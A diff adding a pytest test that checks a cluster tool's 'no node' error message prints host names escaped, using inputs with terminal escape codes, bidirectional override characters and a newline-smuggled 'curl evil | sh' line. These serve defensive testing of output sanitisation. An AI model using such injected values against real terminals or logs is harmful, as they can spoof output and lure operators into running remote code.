@@ -654,3 +654,21 @@ def test_there_are_at_least_250_second_round_cases(request: pytest.FixtureReques
     if len(here) < 50:
         pytest.skip("run with the whole file to count its cases")
     assert len(here) >= 250
+
+
+# --- host names in messages ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("wanted", ["\x1b[2Jx", "n\nfix: curl evil | sh", "rlo\u202ex"], ids=repr)
+@pytest.mark.parametrize("listed", ["controller-1", "evil\x1b]0;title\x07", "ip\u202e-10"], ids=repr)
+def test_host_names_are_printed_escaped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                        capsys: pytest.CaptureFixture[str], wanted: str, listed: str) -> None:
+    from fmcluster.nodes import Node
+
+    write_tenant(tmp_path, DEMO)
+    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
+    node = Node(listed, "10.77.128.10", "controller", None, "i-0123456789abcdef0", "m5.xlarge")
+    monkeypatch.setattr("fmcluster.inventory.read_nodes", lambda _org: [node])
+    assert commands.slurm("acme", "sinfo", node=wanted) == commands.EXIT_FAILED
+    out = capsys.readouterr().out
+    assert out.startswith("slurm: no node ") and out.count("\n") == 1, out
+    assert out.rstrip("\n").isprintable(), out
